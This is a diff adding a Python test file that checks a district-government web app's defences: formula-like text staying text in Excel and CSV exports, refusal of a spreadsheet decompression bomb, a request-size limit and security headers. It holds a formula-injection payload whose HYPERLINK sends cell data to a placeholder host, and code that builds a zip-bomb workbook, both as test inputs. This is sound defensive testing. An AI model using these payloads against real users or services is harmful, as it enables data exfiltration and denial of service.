@@ -1,0 +1,126 @@
+"""Hostile input and the browser's protections: text that looks like a formula stays text in every export, the
+response headers, oversized requests and spreadsheet bombs refused with a message."""
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+
+from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
+from sqlmodel import select
+
+from models.db import session_scope
+from models.kinerja.realisasi import Isian, simpan_draf
+from models.tables import Indikator, Kecamatan, User
+from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
+from tests.conftest import masuk
+
+RUMUS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def _u(s, nama: str) -> User:
+    return s.exec(select(User).where(User.username == nama)).one()
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_downloads_and_the_template(client, demo):
+    with session_scope(demo) as s:
+        kec = s.exec(select(Kecamatan).where(Kecamatan.nama == "Poncokusumo")).one()
+        catat_evaluasi_lengkap(s, kecamatan_id=kec.id, jenis="evaluasi", tahun=2025, triwulan=2,
+                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=_u(s, "tim.poncokusumo"),
+                               rekomendasi=[RekomendasiBaru(t, "kasi_pem", date(2025, 8, 30)) for t in RUMUS])
+        ind = s.exec(select(Indikator).where(Indikator.kode == "IKU-1")
+                     .where(Indikator.kabupaten_id == kec.kabupaten_id)).one()
+        simpan_draf(s, kecamatan_id=kec.id, tahun=2025, triwulan=2, oleh=_u(s, "evapor.poncokusumo"),
+                    isian=Isian(ind.id, "40", "50", "=1+1", [], None), hari_ini=date(2025, 7, 1))
+    masuk(client, "camat.poncokusumo")
+    xlsx = client.get("/unduh/tl-daftar.xlsx?tahun=2025&triwulan=2")
+    assert xlsx.status_code == 200 and xlsx.headers["Cache-Control"] == "no-store"
+    ws = load_workbook(io.BytesIO(xlsx.data)).active
+    sel = [c for baris in ws.iter_rows() for c in baris if c.value in RUMUS]
+    assert sorted(c.value for c in sel) == sorted(RUMUS) and {c.data_type for c in sel} == {"s"}
+    dibaca = CalamineWorkbook.from_filelike(io.BytesIO(xlsx.data))  # another reader: the text, not a result
+    teks = {v for baris in dibaca.get_sheet_by_index(0).to_python() for v in baris}
+    assert set(RUMUS) <= teks
+    berkas_csv = client.get("/unduh/tl-daftar.csv?tahun=2025&triwulan=2").data.decode("utf-8-sig")
+    baris = list(csv.reader(io.StringIO(berkas_csv), delimiter=";"))
+    kolom = baris[0].index("Rekomendasi")
+    assert sorted(b[kolom] for b in baris[1:]) == sorted("'" + t for t in RUMUS)
+
+    templat = client.get("/realisasi/templat.xlsx?tahun=2025&triwulan=2")
+    assert templat.status_code == 200
+    ws = load_workbook(io.BytesIO(templat.data)).active
+    (catatan,) = [c for baris in ws.iter_rows() for c in baris if c.value == "=1+1"]
+    assert catatan.data_type == "s"
+
+
+def _bom_xlsx(sel: int) -> bytes:
+    """The real template's workbook with its sheet replaced by one row of `sel` inline-string cells: small
+    compressed, large unpacked."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    from models.kinerja.excel import LEMBAR
+
+    wb = Workbook()
+    wb.active.title = LEMBAR
+    asli = io.BytesIO()
+    wb.save(asli)
+    isi = '<c t="inlineStr"><is><t>x</t></is></c>' * sel
+    lembar = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats'
+              f'.org/spreadsheetml/2006/main"><sheetData><row r="1">{isi}</row></sheetData></worksheet>')
+    keluar = io.BytesIO()
+    with zipfile.ZipFile(asli) as masuk_zip, zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as z:
+        for b in masuk_zip.infolist():
+            z.writestr(b.filename, lembar if b.filename == "xl/worksheets/sheet1.xml" else masuk_zip.read(b))
+    return keluar.getvalue()
+
+
+def test_a_spreadsheet_bomb_is_refused_before_it_is_parsed(client, app, demo):
+    import base64
+    import time
+
+    from tests.dash_util import daftar_callback, panggil, sidik_basis_data, teks_jawaban
+
+    bom = _bom_xlsx(300_000)
+    assert len(bom) < 200_000  # small as sent
+    masuk(client, "evapor.poncokusumo")
+    client.get("/_dash-layout")
+    sebelum = sidik_basis_data(demo)
+    isi = "data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64," + base64.b64encode(bom).decode()
+    kunci = next(k for k, cb in daftar_callback(app).items()
+                 if f"{cb['callback'].__module__}.{cb['callback'].__name__}" == "callbacks.realisasi.pratinjau")
+    mulai = time.perf_counter()
+    teks = teks_jawaban(panggil(client, app, kunci, isi=isi, nama="bom.xlsx", periode={"tahun": 2025, "triwulan": 2}))
+    assert time.perf_counter() - mulai < 2
+    assert teks.startswith("bom.xlsx: Isi berkas Excel terlalu besar setelah dibuka (lebih dari 8 MB); gunakan "
+                           "templat yang diunduh dari halaman ini.")
+    assert sidik_basis_data(demo) == sebelum
+
+
+def test_a_request_body_over_the_limit_is_not_read(client, demo):
+    masuk(client, "evapor.poncokusumo")
+    r = client.post("/_dash-update-component", data=b"{" + b" " * (9 * 1024 * 1024) + b"}",
+                    content_type="application/json")
+    assert r.status_code == 413
+    assert r.get_json() == {"galat": "Berkas atau isian terlalu besar (lebih dari 8 MB); tidak ada yang disimpan."}
+
+
+def test_every_answer_carries_the_security_headers(client, demo):
+    from app import create_app
+
+    halaman = client.get("/login")
+    h = halaman.headers
+    csp = h["Content-Security-Policy"]
+    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
+    assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]  # scripts: ours, by file or hash
+    assert (h["X-Frame-Options"], h["X-Content-Type-Options"], h["Referrer-Policy"], h["Cache-Control"]) == (
+        "DENY", "nosniff", "same-origin", "no-store")
+    assert "Strict-Transport-Security" not in h  # development and tests run without HTTPS
+    statis = client.get("/vendor/bootstrap/css/bootstrap.min.css")
+    assert statis.headers.get("Cache-Control") != "no-store" and statis.headers["X-Content-Type-Options"] == "nosniff"
+    produksi = create_app({"DATABASE_URL": str(demo.url.render_as_string(hide_password=False)), "APP_ENV": "production",
+                           "SECRET_KEY": "kunci-produksi-uji"})
+    hsts = produksi.server.test_client().get("/login").headers["Strict-Transport-Security"]
+    assert hsts == "max-age=31536000; includeSubDomains"
